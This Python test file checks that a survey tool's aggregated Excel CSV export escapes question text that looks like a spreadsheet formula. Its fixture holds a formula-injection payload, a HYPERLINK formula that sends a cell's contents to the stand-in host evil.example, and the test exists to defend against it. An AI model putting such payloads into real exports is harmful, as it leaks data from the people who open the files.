"""The aggregated results CSV (for Excel) never carries a formula from survey text."""

from __future__ import annotations

import csv
import io

import yaml
from _helpers import write_survey

from analysis.results import aggregated_csv
from analysis.views import build_view
from raati.surveys import load_survey


def test_survey_text_that_looks_like_a_formula_is_protected(tmp_path):
    data = yaml.safe_load("""\
id: kaava
title: {fi: Kaava}
questions:
  - {id: q1, type: likert, text: {fi: '=HYPERLINK("http://evil.example/?x="&A1,"klikkaa")'}}
  - {id: q2, type: text, text: {fi: "+1+1"}}
  - {id: q3, type: likert, text: {fi: "Tavallinen kysymys"}}
""")
    survey = load_survey(write_survey(tmp_path, data), tmp_path)
    block = ("puupaja", "2026-03", "fi")
    counts = {"respondents": {block: 6}, "answered": {},
              "counts": {(block, "q1", "3"): 6, (block, "q2", "x"): 6, (block, "q3", "4"): 6}}
    rows = list(csv.reader(io.StringIO(
        aggregated_csv(survey, build_view(survey, counts, 5)).decode("utf-8-sig")), delimiter=";"))
    texts = {row[0]: row[1] for row in rows[1:]}
    assert texts["q1"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"klikkaa")'
    assert texts["q2"] == "'+1+1"
    assert texts["q3"] == "Tavallinen kysymys"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
